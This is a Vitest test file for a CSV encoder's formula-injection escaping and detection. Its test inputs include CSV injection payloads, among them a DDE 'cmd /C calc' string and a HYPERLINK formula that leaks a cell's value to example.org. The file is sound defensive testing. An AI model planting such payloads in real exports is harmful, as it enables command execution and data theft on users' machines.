import { describe, expect, test } from 'vitest'
import { encodeCsv } from '../src/encode-csv.ts'
import { isFormula } from '../src/formula.ts'

// https://owasp.org/www-community/attacks/CSV_Injection
const FORMULAS = [
  '=1+1',
  '+1+1',
  '-1+1',
  '@SUM(1)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '＝1+1',
  '＋1+1',
  '－1+1',
  '＠SUM(1)',
  ' =1+1',
  '   @SUM(1)',
  '\u00a0=1+1',
  '\u3000＝1',
  '\uFEFF=1+1',
  '=',
  '-',
  '-2+3+cmd|’ /C calc’!A0',
  '=HYPERLINK("http://example.org?leak="&A1,"click")',
  '+49 151 2345',
  '-1,5',
  '--1',
  '-1.',
  '-0x10',
  '+1e',
]

const HARMLESS = [
  '',
  ' ',
  'a',
  'a=1',
  '1+1',
  '1-1',
  "'=1",
  '"=1"',
  '-1',
  '+1',
  '-12.50',
  '+1.5e-10',
  '-1E5',
  '[',
  '^',
  '_',
  '`',
  'Z',
  'é=1',
]

describe('isFormula()', () => {
  test.each(FORMULAS)('%j is one', (text) => {
    expect(isFormula(text)).toBe(true)
  })
  test.each(HARMLESS)('%j is none', (text) => {
    expect(isFormula(text)).toBe(false)
  })
})

describe('the policy', () => {
  function field(text: unknown, formulas?: 'escape' | 'reject' | 'off'): string {
    return encodeCsv([[0, text]], { header: false, ...(formulas && { formulas }) }).slice(2, -2)
  }

  test('escape puts an apostrophe in front, inside of quotes where they are needed', () => {
    expect(field('=1+1')).toBe("'=1+1")
    expect(field('=A,"B"')).toBe('"\'=A,""B"""')
    expect(field('\n=1')).toBe('"\'\n=1"')
    expect(field(' =1')).toBe("' =1")
  })

  test('escape leaves numbers alone, in text too', () => {
    expect([field(-1), field(-5n), field('-12.50'), field('+1')]).toEqual(['-1', '-5', '-12.50', '+1'])
  })

  test('every formula gets the apostrophe', () => {
    for (const text of FORMULAS) expect(field(text).replace(/^"/, '')).toMatch(/^'/)
  })

  test('reject names column and row', () => {
    expect(() => field('=1+1', 'reject')).toThrow(
      expect.objectContaining({
        code: 'CZ_CSV_FORMULA',
        message: `Column 2 of row 1 would be run as a formula ("=1+1"); clean it, or choose formulas: 'escape' or 'off'`,
      }),
    )
    expect(field('-1', 'reject')).toBe('-1')
  })

  test('reject counts for headers, too', () => {
    expect(() => encodeCsv([], { columns: ['a', '=b'] as never[], formulas: 'reject' })).toThrow(
      'The header 2 would be run as a formula ("=b")',
    )
  })

  test('off changes nothing', () => {
    expect(field('=1+1', 'off')).toBe('=1+1')
    expect(field(' =1', 'off')).toBe('" =1"')
  })
})
